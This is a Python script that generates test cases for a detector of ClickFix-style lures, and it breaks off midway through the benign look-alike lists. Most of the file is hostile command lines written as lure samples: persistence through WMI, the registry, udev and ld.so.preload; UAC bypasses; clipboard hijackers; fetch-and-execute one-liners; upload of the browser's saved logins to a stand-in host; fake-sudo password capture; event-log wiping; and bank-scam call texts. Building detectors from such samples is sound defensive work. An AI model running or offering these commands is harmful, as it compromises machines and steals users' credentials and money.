"""Writes tests/data/cases/tech22.jsonl: the lure techniques a fourth technique sweep (helper
tech22, 2026-12-07 late night) found unread or wrote no case for, and their genuine look-alikes.

First the leftovers the earlier sweeps named (make_tech19.py … make_tech21.py, gaps20/21):
WMI event subscriptions (PowerShell, wmic, mofcomp), COM hijacks in HKCU, Image File Execution
Options Debugger and SilentProcessExit, AppInit_DLLs, Office start-up files, netsh helper DLLs,
the auto-elevating programs' per-user shell keys (fodhelper, computerdefaults, eventvwr, sdclt,
wsreset, SilentCleanup's windir), macOS emond and periodic scripts, udev RUN rules, a desktop file
made a file type's default handler, a clipper that keeps the address in a variable, an assembly
loaded from a web address (and an admin's local DLL loaded by path: quiet), Homebrew taps and casks
and `docker run` handed over by a check page, "your <bank> account is locked, call now" in seven
Latin-script languages, and `netsh winhttp set proxy`. Then techniques of the 2025-2026 ClickFix /
FileFix reports that no case file had written (SyncAppvPublishingServer.vbs, pubprn.vbs, Windows
Terminal, search-ms: WebDAV folders, winget configure, certreq, desktopimgdownldr, esentutl,
Invoke-CimMethod, DNS TXT staging read by PowerShell, reverse SSH tunnels, PHP / Perl / Ruby / Bun /
Deno fetch-and-eval, ld.so.preload, profile.d, XDG autostart, LNK over WebDAV, JScript over
WebDAV, Add-Type of downloaded C#, cab/zip + rundll32, JXA fetch-and-eval).

    python tests/data/cases/make_tech22.py

Deterministic (fixed lists). Hosts are reserved names (.test, .invalid, .example, documentation
address ranges); every text is written here, none copied from a lure collection, another
detector's fixtures or the blind sets. Each lure text is scanned twice: in its context (the
lure page, pasted where the page says) and bare. Look-alikes are scanned from the page a
legitimate user would copy them from (`not_flagged`).
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, texts_elsewhere, write  # beside this script (tests/data/cases/)

OUT = Path(__file__).with_name("tech22.jsonl")
book = Book("t22", skip=texts_elsewhere(OUT))

CAPTCHA = [
    "https://verify.brambleton-gate.test/human",
    "https://cf-turnstile.example/challenge",
    "https://check.quenby.invalid/ray/7f3a",
]
MAC = [
    "https://verify-mac.ashcombe.test/check",
    "https://support-macos.example/storage-fix",
]
LINUX = [
    "https://verify.thistledown.test/linux",
    "https://captcha-check.example/ubuntu",
]
JOB = ["https://recruit.ostrava-labs.test/take-home/setup"]
WIKI = "https://wiki.corp.example/it/runbooks"
MSDOCS = "https://learn.microsoft.com/en-us/windows/win32/wmisdk/receiving-events-at-all-times"
TWEAKS = "https://www.tenforums.example/tutorials/classic-context-menu"
APPLE = "https://support.apple.com/guide/terminal/welcome/mac"
ARCH = "https://wiki.archlinux.org/title/Udev"
DAV = "\\\\203.0.113.44@SSL\\DavWWWRoot"

# ---- WMI event subscription (MITRE T1546.003; Mandiant/Microsoft write-ups of WMI persistence) --
book.lures(
    "wmi-subscription",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'wmic /namespace:\\\\root\\subscription PATH CommandLineEventConsumer CREATE Name="upd", '
        'ExecutablePath="C:\\Users\\Public\\u.exe",CommandLineTemplate="C:\\Users\\Public\\u.exe"',
        "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments "
        "@{Name='Sync';CommandLineTemplate='C:\\ProgramData\\sync\\sync.exe'}",
        "New-CimInstance -Namespace root/subscription -ClassName ActiveScriptEventConsumer -Property "
        "@{Name='m';ScriptingEngine='JScript';ScriptText='new ActiveXObject(\"WScript.Shell\").Run(\"C:\\\\Users\\\\Public\\\\m.exe\")'}",
        "mofcomp https://cdn.brambleton-gate.test/s.mof",
        f"mofcomp.exe {DAV}\\wmi\\update.mof",
        "curl -so %TEMP%\\s.mof https://192.0.2.40/s.mof & mofcomp %TEMP%\\s.mof",
        "iwr https://cdn.quenby.invalid/p.mof -OutFile $env:TEMP\\p.mof; mofcomp $env:TEMP\\p.mof",
    ],
)
# ---- COM hijack for this user (T1546.015) --------------------------------------------------------
book.lures(
    "com-hijack",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'reg add "HKCU\\Software\\Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocServer32" '
        '/ve /t REG_SZ /d "C:\\Users\\Public\\cache.dll" /f',
        "reg add HKCU\\Software\\Classes\\CLSID\\{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\\LocalServer32 /ve "
        '/d "C:\\Users\\Public\\svc.exe" /f',
        "New-Item -Path 'HKCU:\\Software\\Classes\\CLSID\\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\\InprocServer32' "
        '-Value "$env:APPDATA\\m.dll" -Force',
        'reg add "HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{42aedc87-2188-41fd-b9a3-0c966feabec1}\\InprocServer32" '
        '/ve /d "%LOCALAPPDATA%\\Temp\\x.dll" /f & reg add "HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\'
        '{42aedc87-2188-41fd-b9a3-0c966feabec1}\\InprocServer32" /v ThreadingModel /d Both /f',
    ],
)
# ---- Image File Execution Options and SilentProcessExit (T1546.012, T1546.008) -------------------
book.lures(
    "ifeo-hijack",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" '
        '/v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f',
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe" '
        '/v Debugger /d "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" /f',
        "Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\msedge.exe' "
        "-Name Debugger -Value 'C:\\ProgramData\\u\\u.exe'",
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe" '
        '/v GlobalFlag /t REG_DWORD /d 512 & reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\'
        'SilentProcessExit\\notepad.exe" /v MonitorProcess /d "C:\\Users\\Public\\m.exe"',
        "copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe",
    ],
)
# ---- AppInit_DLLs (T1546.010) -------------------------------------------------------------------------
book.lures(
    "appinit-dlls",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows" /v AppInit_DLLs /t REG_SZ '
        '/d "C:\\ProgramData\\h.dll" /f & reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\'
        'Windows" /v LoadAppInit_DLLs /t REG_DWORD /d 1 /f',
        "Set-ItemProperty 'HKLM:\\SOFTWARE\\Wow6432Node\\Microsoft\\Windows NT\\CurrentVersion\\Windows' "
        "-Name AppInit_DLLs -Value 'C:\\Users\\Public\\w.dll'",
    ],
)
# ---- Office start-up places (T1137: templates, STARTUP/XLSTART, Office test, XLL, VSTO) -------------
book.lures(
    "office-startup",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'iwr https://cdn.brambleton-gate.test/n.dotm -OutFile "$env:APPDATA\\Microsoft\\Templates\\Normal.dotm"',
        'curl -so "%APPDATA%\\Microsoft\\Word\\STARTUP\\helper.wll" https://192.0.2.41/h.wll',
        'bitsadmin /transfer x https://cdn.quenby.invalid/b.xlam "%APPDATA%\\Microsoft\\Excel\\XLSTART\\b.xlam"',
        'reg add "HKCU\\Software\\Microsoft\\Office test\\Special\\Perf" /ve /d C:\\Users\\Public\\p.dll /f',
        'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Options /v OPEN /t REG_SZ /d "/R '
        'C:\\Users\\Public\\x.xll" /f',
        '"C:\\Program Files\\Common Files\\Microsoft Shared\\VSTO\\10.0\\VSTOInstaller.exe" /i '
        "https://cdn.brambleton-gate.test/addin/Helper.vsto /s",
    ],
)
# ---- netsh helper DLL (T1546.007) ----------------------------------------------------------------------
book.lures(
    "netsh-helper",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "netsh add helper C:\\Users\\Public\\nh.dll",
        "curl -so C:\\ProgramData\\nh.dll https://192.0.2.42/nh.dll && netsh add helper C:\\ProgramData\\nh.dll",
    ],
)
# ---- UAC bypass by the auto-elevating programs' per-user keys (T1548.002; UACME methods) -----------
book.lures(
    "uac-bypass",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'reg add HKCU\\Software\\Classes\\mscfile\\shell\\open\\command /ve /d "C:\\Users\\Public\\e.exe" /f && '
        "eventvwr.exe",
        "New-Item 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Force; Set-ItemProperty "
        "'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Name DelegateExecute -Value ''; "
        "Set-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Name '(default)' "
        "-Value 'cmd /c C:\\ProgramData\\x.exe'; Start-Process computerdefaults.exe",
        "reg add HKCU\\Software\\Classes\\exefile\\shell\\open\\command /ve /d C:\\Users\\Public\\r.exe /f & "
        "sdclt /kickoffelev",
        'reg add "HKCU\\Environment" /v windir /d "cmd /c start C:\\Users\\Public\\w.exe &&" /f & schtasks /run '
        "/tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I",
        'reg add HKCU\\Software\\Classes\\ms-windows-store\\shell\\open\\command /ve /d "C:\\Users\\Public\\s.exe" '
        "/f & reg add HKCU\\Software\\Classes\\ms-windows-store\\shell\\open\\command /v DelegateExecute /f & "
        "WSReset.exe",
        'reg add HKCU\\Software\\Classes\\Folder\\shell\\open\\command /d "C:\\ProgramData\\f.exe" /f & reg add '
        "HKCU\\Software\\Classes\\Folder\\shell\\open\\command /v DelegateExecute /f & sdclt.exe",
    ],
)
# ---- macOS emond and periodic (T1546.014, T1053) ----------------------------------------------------
book.lures(
    "mac-emond-periodic",
    "macos",
    "terminal",
    MAC,
    [
        "curl -s https://cdn.ashcombe.test/e.plist | sudo tee /etc/emond.d/rules/update.plist >/dev/null && "
        "sudo touch /private/var/db/emondClients/u",
        "sudo curl -so /private/etc/emond.d/rules/sync.plist https://cdn.ashcombe.test/s.plist",
        "echo 'curl -s https://cdn.ashcombe.test/p | sh' | sudo tee /etc/periodic/daily/999.update && "
        "sudo chmod +x /etc/periodic/daily/999.update",
        "sudo sh -c 'echo \"curl -fsSL https://cdn.ashcombe.test/p.sh | bash\" >> /etc/periodic.conf.local'",
        "echo 'curl -s https://cdn.ashcombe.test/a | sh' | at now + 1 minute",
    ],
)
# ---- Linux udev RUN rules (T1546) -------------------------------------------------------------------
book.lures(
    "udev-run",
    "linux",
    "terminal",
    LINUX,
    [
        'echo \'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \\\'curl -s https://cdn.thistledown.test/u | '
        "sh\\'\"' | sudo tee /etc/udev/rules.d/99-update.rules && sudo udevadm control --reload",
        'printf \'SUBSYSTEM=="net", ACTION=="add", RUN+="/usr/bin/wget -qO /tmp/.n https://198.51.100.31/n"\\n\' '
        "| sudo tee /etc/udev/rules.d/70-net.rules",
    ],
)
# ---- XDG handler hijack (T1546.001) -------------------------------------------------------------------
book.lures(
    "xdg-handler",
    "linux",
    "terminal",
    LINUX,
    [
        "curl -so ~/.local/share/applications/pdf.desktop https://cdn.thistledown.test/pdf.desktop && "
        "xdg-mime default pdf.desktop application/pdf",
        "printf '[Desktop Entry]\\nType=Application\\nName=Docs\\nExec=sh -c \"curl -s https://cdn.thistledown.test/d "
        "| sh; xdg-open %%f\"\\nMimeType=application/pdf;\\n' > ~/.local/share/applications/docs.desktop && "
        "xdg-mime default docs.desktop application/pdf",
    ],
)
# ---- clipper that keeps the address in a variable (T1115) ---------------------------------------------
book.lures(
    "clipper-variable",
    "any",
    "run_dialog",
    CAPTCHA,
    [
        "$a='bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'; while($true){ $c=Get-Clipboard; if($c -match "
        "'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$'){ Set-Clipboard $a }; Start-Sleep -m 500 }",
        "$w='0x52908400098527886E0F7030069857D2E4169EE7';$r='^0x[0-9a-fA-F]{40}$';for(;;){$t=Get-Clipboard;"
        "if($t -match $r -and $t -ne $w){Set-Clipboard -Value $w};sleep 1}",
    ],
)
book.lures(
    "clipper-variable-mac",
    "macos",
    "terminal",
    MAC,
    [
        'A=bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh; while true; do c=$(pbpaste); if echo "$c" | grep -Eq '
        "'^(bc1|[13])[a-zA-Z0-9]{25,39}$'; then printf %s \"$A\" | pbcopy; fi; sleep 1; done &",
    ],
)
# ---- an assembly loaded from an address (T1620) -------------------------------------------------------
book.lures(
    "assembly-from-address",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        '[Reflection.Assembly]::LoadFrom("https://cdn.brambleton-gate.test/a.dll").GetType("A.B").GetMethod("Run")'
        ".Invoke($null,$null)",
        f"[System.Reflection.Assembly]::LoadFile('{DAV}\\lib\\v.dll'); [V.Main]::Go()",
        '[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("https://cdn.quenby.invalid/a.dll"))'
        ".EntryPoint.Invoke($null,$null)",
    ],
)
# ---- Homebrew and docker handed over by a check page (the package is the payload) -----------------
book.lures(
    "brew-docker-from-check-page",
    "any",
    "terminal",
    [*MAC, *LINUX],
    [
        "brew install --cask https://cdn.ashcombe.test/casks/cleaner.rb",
        "brew tap verify-helper/tools && brew install verify-helper/tools/macfix",
        "docker run -d --restart always --net host registry.thistledown.test/agent:latest",
        "sudo docker run -d --restart=unless-stopped -v /home:/data ghcr.io/verify-helper/sync:latest",
    ],
    bare="not_flagged",
)
# ---- "your <bank> account is locked, call now" (Latin-script languages) --------------------------------
book.lures(
    "account-locked-call",
    "any",
    "other",
    ["https://secure-alert.pelham-bank.example/notice"],
    [
        "Your Chase account has been locked due to suspicious activity. Call +1 (555) 010-0199 immediately "
        "to unlock it. If we do not hear from you within 24 hours, your account will be permanently closed.",
        "Your Wells Fargo account has been suspended. Call 1-555-010-0142 immediately to reactivate it.",
        "ALERT: Your Bank of America account is locked. To unlock, call our fraud department at 555-010-0177 now.",
        "Votre compte bancaire est bloqué suite à une opération suspecte. Contactez immédiatement le service "
        "sécurité au 09 70 00 00 00.",
        "Su cuenta del BBVA ha sido bloqueada. Llame urgentemente al 910 000 000 para reactivarla.",
        "Il suo conto Intesa Sanpaolo è stato sospeso. Chiami subito il numero 02 0000 0000.",
        "Sua conta Itaú foi bloqueada. Ligue agora para 0800 000 0000 para desbloquear.",
        "Uw ING-rekening is tijdelijk geblokkeerd. Bel onmiddellijk 020 000 0000 om de blokkade op te heffen.",
        "Ihr Sparkassen-Konto wurde gesperrt. Rufen Sie umgehend unter 030 0000000 an, um die Sperre aufzuheben.",
    ],
    bare="malicious",
)
# ---- netsh winhttp proxy to a stranger (T1090, T1565.002) ----------------------------------------------
book.lures(
    "winhttp-proxy",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "netsh winhttp set proxy 203.0.113.50:3128",
        'netsh winhttp set proxy proxy-server="https=198.51.100.8:8443" bypass-list="<local>"',
    ],
    in_context="flagged",
)
# by name, the proxy is the company's own in every vendor's and wiki's example: only a check
# page's Run box makes it a lure
book.look_alikes(
    [
        (
            "winhttp-proxy-by-name",
            "windows",
            [
                (
                    "run_dialog",
                    CAPTCHA[0],
                    "malicious",
                    "netsh winhttp set proxy proxy-sec.brambleton-gate.test:8080",
                ),
                (
                    "unknown",
                    None,
                    "not_flagged",
                    "netsh winhttp set proxy proxy-sec.brambleton-gate.test:8080",
                ),
            ],
        ),
    ]
)

# ---- 2025-2026 reports: signed scripts and programs that start what they are handed ---------------
# (ClickFix with SyncAppvPublishingServer.vbs and pubprn.vbs; Win+X → Windows Terminal; conhost
# --headless; search-ms: WebDAV folders; winget configure; certreq/desktopimgdownldr/esentutl
# downloads; Invoke-CimMethod Win32_Process; DNS TXT staging read by PowerShell)
book.lures(
    "signed-script-proxies",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;iex(irm https://cdn.brambleton-gate.test/s)"',
        'SyncAppvPublishingServer.vbs "Break; Start-Process mshta https://quenby.invalid/x.hta"',
        "cscript //nologo C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 "
        "script:https://cdn.brambleton-gate.test/p.sct",
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:'
        'https://cdn.brambleton-gate.test/r.sct")',
        "msxsl.exe https://cdn.brambleton-gate.test/c.xml https://cdn.brambleton-gate.test/c.xsl",
    ],
)
book.lures(
    "terminal-hosts",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'wt -w 0 nt powershell -w h -c "iex(irm https://cdn.brambleton-gate.test/w)"',
        'conhost.exe --headless powershell -w h -c "iex(irm https://cdn.brambleton-gate.test/c)"',
        'powershell -c "& ([scriptblock]::Create((irm https://cdn.brambleton-gate.test/sb)))"',
    ],
)
book.lures(
    "webdav-folders",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'explorer.exe "search-ms:query=invoice&crumb=location:\\\\203.0.113.5@SSL\\DavWWWRoot\\docs&displayname=Documents"',
        'cmd /c start "" "\\\\203.0.113.5@SSL\\DavWWWRoot\\Invoice.lnk"',
        f"wscript //E:jscript {DAV}\\v.txt",
        "Invoke-Expression (Get-Content -Raw \\\\198.51.100.9\\share\\fix.ps1)",
    ],
)
book.lures(
    "signed-downloaders",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "winget configure -f https://cdn.brambleton-gate.test/setup.dsc.yaml --accept-configuration-agreements",
        "certreq -Post -config https://cdn.brambleton-gate.test/c C:\\Windows\\win.ini %TEMP%\\c.ps1 & "
        "powershell -f %TEMP%\\c.ps1",
        'set "SYSTEMROOT=C:\\Windows\\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:'
        "https://cdn.brambleton-gate.test/x.exe /eventName:desktopimgdownldr",
        "esentutl.exe /y \\\\198.51.100.9\\share\\v.exe /d %TEMP%\\v.exe /o & %TEMP%\\v.exe",
        "Start-BitsTransfer -Source https://cdn.brambleton-gate.test/u.exe -Destination $env:TEMP\\u.exe; "
        "& $env:TEMP\\u.exe",
    ],
)
book.lures(
    "process-create-and-dns",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine="mshta '
        'https://quenby.invalid/h.hta"}',
        "powershell -w h -c \"(Resolve-DnsName -Type TXT stage.brambleton-gate.test).Strings -join '' | iex\"",
        'nslookup -q=txt stage.brambleton-gate.test 198.51.100.53 | findstr /i "=" > %TEMP%\\s.cmd & %TEMP%\\s.cmd',
        "Register-ScheduledTask -TaskName Upd -Action (New-ScheduledTaskAction -Execute mshta -Argument "
        "https://quenby.invalid/t.hta) -Trigger (New-ScheduledTaskTrigger -AtLogOn)",
    ],
)
book.lures(
    "archive-then-dll",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "curl.exe -sLo %TEMP%\\p.zip https://cdn.brambleton-gate.test/p.zip && tar -xf %TEMP%\\p.zip -C %TEMP% "
        "&& rundll32 %TEMP%\\p.dll,#1",
        'cmd /c "curl -s https://cdn.brambleton-gate.test/s.js -o %TEMP%\\s.js && cscript //nologo //E:JScript '
        '%TEMP%\\s.js"',
        'powershell -c "Add-Type -TypeDefinition (irm https://cdn.brambleton-gate.test/cs); [L]::Run()"',
    ],
)
book.lures(
    "browser-data-post",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "Invoke-RestMethod https://cdn.brambleton-gate.test/k -Method Post -Body (Get-Content "
        '"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" -Encoding Byte -Raw)',
    ],
)
# ---- 2025-2026 reports: macOS and Linux -------------------------------------------------------------
book.lures(
    "mac-admin-and-dmg",
    "macos",
    "terminal",
    MAC,
    [
        "osascript -e 'do shell script \"curl -fsSL https://cdn.ashcombe.test/i | sh\" with administrator privileges'",
        "curl -so /tmp/u.dmg https://cdn.ashcombe.test/u.dmg && hdiutil attach -nobrowse /tmp/u.dmg && cp -R "
        "/Volumes/Update/Update.app /Applications/ && xattr -cr /Applications/Update.app && open /Applications/Update.app",
        'echo "hunter2" | sudo -S xattr -dr com.apple.quarantine /Applications/Fix.app',
        'osascript -l JavaScript -e "eval(ObjC.unwrap($.NSString.stringWithContentsOfURLEncodingError('
        "$.NSURL.URLWithString('https://cdn.ashcombe.test/j'),4,null)))\"",
    ],
)
book.lures(
    "script-fetch-eval",
    "linux",
    "terminal",
    LINUX,
    [
        "php -r 'eval(file_get_contents(\"https://cdn.thistledown.test/p\"));'",
        "perl -MLWP::Simple -e 'eval get \"https://cdn.thistledown.test/p\"'",
        "ruby -rnet/http -e 'eval Net::HTTP.get(URI(\"https://cdn.thistledown.test/r\"))'",
        "bun -e \"eval(await (await fetch('https://cdn.thistledown.test/b')).text())\"",
        "deno eval \"eval(await (await fetch('https://cdn.thistledown.test/d')).text())\"",
    ],
)
book.lures(
    "linux-start-files",
    "linux",
    "terminal",
    LINUX,
    [
        "echo /tmp/.x.so | sudo tee /etc/ld.so.preload && curl -so /tmp/.x.so https://cdn.thistledown.test/x.so",
        "echo 'curl -s https://cdn.thistledown.test/p | sh' | sudo tee /etc/profile.d/zz-update.sh",
        "mkdir -p ~/.config/autostart && printf '[Desktop Entry]\\nType=Application\\nName=Updater\\nExec=sh -c "
        '"curl -s https://cdn.thistledown.test/a | sh"\\n\' > ~/.config/autostart/updater.desktop',
        "ssh -o StrictHostKeyChecking=no -N -R 4444:localhost:22 support@203.0.113.77",
    ],
)

# ---- more places Windows starts a program from (T1547: screen saver, Winlogon, Active Setup,
# print monitors, LSA packages, time providers, RunOnceEx) and the service/profile forms ---------
book.lures(
    "registry-autostart",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d C:\\Users\\Public\\x.scr /f & reg add '
        '"HKCU\\Control Panel\\Desktop" /v ScreenSaveActive /d 1 /f',
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d '
        '"C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\x.exe" /f',
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe, '
        'C:\\ProgramData\\s.exe" /f',
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{11111111-2222-3333-4444-'
        '555555555555}" /v StubPath /d "C:\\Users\\Public\\a.exe" /f',
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\PrnMon" /v Driver /d '
        "C:\\Users\\Public\\pm.dll /f",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d '
        '"kerberos\\0msv1_0\\0C:\\Users\\Public\\sp" /f',
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\Upd" /v DllName /d '
        "C:\\ProgramData\\t.dll /f",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend" /v 1 /d '
        '"C:\\Users\\Public\\r.dll" /f',
        'Add-Content $PROFILE "iex(irm https://cdn.brambleton-gate.test/p)"',
        'sc.exe create Upd binPath= "cmd /c powershell -w h -c iex(irm https://cdn.brambleton-gate.test/s)" '
        "start= auto",
    ],
)
# ---- the browser opened up to a stealer (2025 reports: --load-extension from a temporary
# folder; remote debugging on the real profile past app-bound encryption) ---------------------------
book.lures(
    "browser-opened-up",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "start chrome --load-extension=%LOCALAPPDATA%\\Temp\\ext --no-first-run",
        "curl -so %TEMP%\\e.zip https://cdn.brambleton-gate.test/e.zip & tar -xf %TEMP%\\e.zip -C %TEMP%\\e & "
        "start chrome --load-extension=%TEMP%\\e",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --headless --remote-debugging-port=9222 '
        '--user-data-dir="%LOCALAPPDATA%\\Google\\Chrome\\User Data"',
        'start msedge --remote-debugging-port=9333 --user-data-dir="%LOCALAPPDATA%\\Microsoft\\Edge\\User Data" '
        "--headless=new",
    ],
)
book.lures(
    "browser-opened-up-mac",
    "macos",
    "terminal",
    MAC,
    [
        "/Applications/Google\\ Chrome.app/Contents/MacOS/Google\\ Chrome --remote-debugging-port=9222 "
        '--user-data-dir="$HOME/Library/Application Support/Google/Chrome" --headless &',
        "open -a 'Google Chrome' --args --load-extension=/tmp/.helper",
    ],
    in_context="flagged",  # a warning from a check page too: the page's dress needs a text that runs
)
# ---- macOS login hook, Linux start files and git's hooks (T1037, T1546) ---------------------------
book.lures(
    "start-hooks",
    "any",
    "terminal",
    [*MAC, *LINUX],
    [
        "sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.h.sh",
        "echo 'APT::Update::Pre-Invoke {\"curl -s https://cdn.thistledown.test/a | sh\";};' | sudo tee "
        "/etc/apt/apt.conf.d/00update",
        "echo 'curl -s https://cdn.thistledown.test/m | sh' | sudo tee /etc/update-motd.d/99-news && sudo chmod "
        "+x /etc/update-motd.d/99-news",
        "echo 'curl -s https://cdn.thistledown.test/s | sh' >> ~/.ssh/rc",
        "echo 'curl -s https://cdn.thistledown.test/r | sh' | sudo tee -a /etc/rc.local",
        'git config --global core.fsmonitor "curl -s https://cdn.thistledown.test/g | sh"',
    ],
)

# ---- recovery switched off and event logs emptied (T1490, T1070.001), a fake sudo written as an
# alias (T1056.002), an editor extension downloaded and installed (fake job tasks, 2025) ----------
book.lures(
    "recovery-and-logs",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "bcdedit /set {default} recoveryenabled no & bcdedit /set {default} bootstatuspolicy ignoreallfailures",
        "reagentc /disable",
        "Clear-EventLog -LogName Application, System, Security",
        "Get-WinEvent -ListLog * | ForEach-Object { [System.Diagnostics.Eventing.Reader.EventLogSession]::"
        "GlobalSession.ClearLog($_.LogName) }",
    ],
)
book.look_alikes(
    [
        (
            "recovery-and-logs-bare-prose",
            "windows",
            [
                (
                    "run_dialog",
                    CAPTCHA[1],
                    "malicious",
                    'wevtutil cl System & wevtutil cl Security & wevtutil cl "Windows PowerShell"',
                ),
            ],
        ),
    ]
)
book.lures(
    "fake-sudo-alias",
    "linux",
    "terminal",
    LINUX,
    [
        'echo "alias sudo=\'sudo -S <<< \\$(read -sp \\"[sudo] password: \\" p; echo \\$p | tee -a /tmp/.p)\'" '
        ">> ~/.bashrc",
        "echo \"alias su='read -s -p Password: p; echo \\$p >> ~/.cache/.s; command su'\" >> ~/.zshrc",
    ],
)
book.lures(
    "extension-download",
    "any",
    "terminal",
    JOB,
    [
        "wget -qO ~/Downloads/theme.vsix https://198.51.100.12/theme.vsix; cursor --install-extension "
        "~/Downloads/theme.vsix --force",
        "curl -sLo /tmp/lint.vsix https://files.kestrel-share.test/lint.vsix && code --install-extension /tmp/lint.vsix",
        "iwr https://files.kestrel-share.test/dbg.vsix -OutFile $env:TEMP\\dbg.vsix; code --install-extension "
        "$env:TEMP\\dbg.vsix",
    ],
    in_context="flagged",
)

# ==== look-alikes: what admins, developers and banks write ===========================================
book.benign(
    "wmi-admin",
    "windows",
    "terminal",
    MSDOCS,
    [
        "Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer | Select-Object Name, "
        "CommandLineTemplate",
        "Get-CimInstance -Namespace root/subscription -ClassName __EventFilter",
        "Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer -Filter \"Name='Upd'\" | "
        "Remove-WmiObject",
        "wmic /namespace:\\\\root\\subscription PATH __EventConsumer get Name",
        "mofcomp C:\\Windows\\System32\\wbem\\cimwin32.mof",
        "mofcomp -check .\\MyProvider.mof",
    ],
)
book.benign(
    "registry-tweaks",
    "windows",
    "terminal",
    TWEAKS,
    [
        'reg add "HKCU\\Software\\Classes\\CLSID\\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}\\InprocServer32" /f /ve',
        'reg delete "HKCU\\Software\\Classes\\CLSID\\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}" /f',
        'New-Item -Path "HKCU:\\Software\\Classes\\CLSID\\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}\\InprocServer32" '
        '-Value "" -Force',
    ],
)
book.benign(
    "registry-admin",
    "windows",
    "terminal",
    WIKI,
    [
        'reg query "HKCU\\Software\\Classes\\CLSID" /s /f InprocServer32',
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\chrome.exe" '
        "/v MitigationOptions /t REG_BINARY /d 00000000000000000000000000000010 /f",
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options" /s /v '
        "Debugger",
        "gflags /i notepad.exe +sls",
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows" /v AppInit_DLLs',
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows" /v AppInit_DLLs /t REG_SZ '
        '/d "" /f',
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows" /v LoadAppInit_DLLs /t '
        "REG_DWORD /d 0 /f",
